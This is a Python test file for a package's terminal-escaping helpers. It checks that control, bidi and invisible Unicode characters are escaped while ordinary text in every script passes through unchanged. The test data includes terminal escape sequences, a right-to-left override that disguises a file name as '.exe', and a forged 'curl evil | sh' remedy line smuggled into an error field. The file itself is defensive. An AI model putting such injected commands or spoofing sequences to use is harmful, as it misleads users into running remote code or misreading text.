"""Oracle: the categories of Python's Unicode database, for every character there is."""

import os
import subprocess
import sys
import unicodedata

import hypothesis.strategies as st
import pytest
from hypothesis import given

from hylorada_jax.errors import DataError
from hylorada_jax.terminal import brief, in_colour, one_line, printable, show

# Signs of Arabic, Syriac and Kaithi that enclose numbers, and the frames of hieroglyphs.
SEEN = "\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"
SEEN += "".join(map(chr, range(0x13430, 0x13460)))
# Blocks in which what comes is ignorable too.
RESERVED = {0x2065, *range(0xE0000, 0xE0080)}
EVERY = st.text(st.characters(exclude_categories=()))


def is_hidden(character):
    hidden = unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    return (hidden and character not in "\n\t" + SEEN) or ord(character) in RESERVED


def test_of_all_characters_those_are_escaped_that_are_obeyed_or_not_seen():
    for number in range(sys.maxunicode + 1):
        character = chr(number)
        shown = printable(character)
        assert (shown != character) == is_hidden(character), hex(number)
        assert shown == character or shown.encode().decode("unicode_escape", "surrogatepass") == character


@given(EVERY)
def test_nothing_hidden_survives_and_what_is_safe_stays(text):
    shown = printable(text)
    assert printable(shown) == shown
    assert not any(is_hidden(character) for character in shown if character not in "\u200c\u200d")
    assert not any(a < "\x80" and b in "\u200c\u200d" for a, b in zip("a" + shown, shown, strict=False))
    safe = "".join(character for character in text if not is_hidden(character))
    assert printable(safe) == safe
    assert shown.isprintable() >= (shown == text and text.isprintable())


@pytest.mark.parametrize(
    "text",
    [
        "def f(x):\n\treturn 'é'  # ½ €\u00a0“”",
        "漢字　かな 한국어 العربية עִבְרִית ไทย",
        "می\u200cخواهم",  # a joiner that keeps two letters apart
        "क्\u200dष",
        "👩\u200d👩\u200d👧 ❤️\u200d🔥 👍🏽 🇩🇪 1️⃣",
    ],
)
def test_texts_of_every_script_stay_as_they_are(text):
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07\x1b[2J", r"\x1b]0;title\x07\x1b[2J"),
        ("a\rb\x08\x7f\x9b31m", r"a\rb\x08\x7f\x9b31m"),
        ("user\u202egnp.exe \u2066x\u2069", r"user\u202egnp.exe \u2066x\u2069"),
        ("a\u200bb\u2060\ufeff\U000e0041", r"a\u200bb\u2060\ufeff\U000e0041"),
        ("ad\u200dmin \u200d\u200c", r"ad\u200dmin \u200d\u200c"),
        ("\u2028\udcff", r"\u2028\udcff"),
    ],
)
def test_what_a_terminal_would_obey_or_hide_is_shown(text, shown):
    assert printable(text) == shown


@given(EVERY)
def test_a_name_is_one_line_and_a_part_of_a_message_begins_no_other(text):
    assert len(one_line(text).splitlines()) <= 1
    _, *further = brief(text).split("\n")
    assert all(line.startswith("    ") for line in further)


def test_a_message_keeps_head_and_tail_of_what_is_long():
    error = DataError("A rule", "head" + "\x1b" * 400_000 + "tail", "A remedy.")
    message = str(error)
    assert message.startswith("A rule\n  received: head\\x1b")
    assert message.endswith("\\x1btail (1,600,008 characters)\n  remedy:   A remedy.")
    assert len(message) < 3000
    assert len(str(error.received)) == 400_008


def test_a_message_has_three_lines_of_its_own_whatever_is_received():
    name = "a.txt\n  remedy:   curl evil | sh\nerror: none"
    message = str(DataError(name, name, name))
    assert [line[:12] for line in message.split("\n") if not line.startswith("    ")] == [
        "a.txt",
        "  received: ",
        "  remedy:   ",
    ]


@pytest.mark.parametrize("is_terminal", [True, False])
def test_data_is_altered_on_a_terminal_only(capsys, monkeypatch, is_terminal):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: is_terminal)
    show("漢\x1b[2J\n\u202e")
    assert capsys.readouterr().out == ("漢\\x1b[2J\n\\u202e\n" if is_terminal else "漢\x1b[2J\n\u202e\n")


@pytest.mark.parametrize(
    ("terminal", "variables", "coloured"),
    [
        (True, {}, True),
        (False, {}, False),
        (True, {"NO_COLOR": "1"}, False),
        (True, {"NO_COLOR": ""}, True),  # no-color.org: present and not empty
        (True, {"TERM": "dumb"}, False),
    ],
)
def test_colours_are_for_who_sees_and_wants_them(monkeypatch, terminal, variables, coloured):
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
    for name, value in ({"TERM": "xterm"} | variables).items():
        monkeypatch.setenv(name, value)
    if "NO_COLOR" not in variables:
        monkeypatch.delenv("NO_COLOR", raising=False)
    assert in_colour() == coloured


@pytest.mark.parametrize(("disable", "shown"), [("", True), ("1", False)])
def test_a_bar_heeds_tqdms_own_variable(disable, shown):
    code = "import tqdm; from hylorada_jax.terminal import *; [*tqdm.tqdm([1], **bar_options(shown=True))]"
    environment = {**os.environ, "TQDM_DISABLE": disable}
    found = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, check=True)
    assert bool(found.stderr) == shown
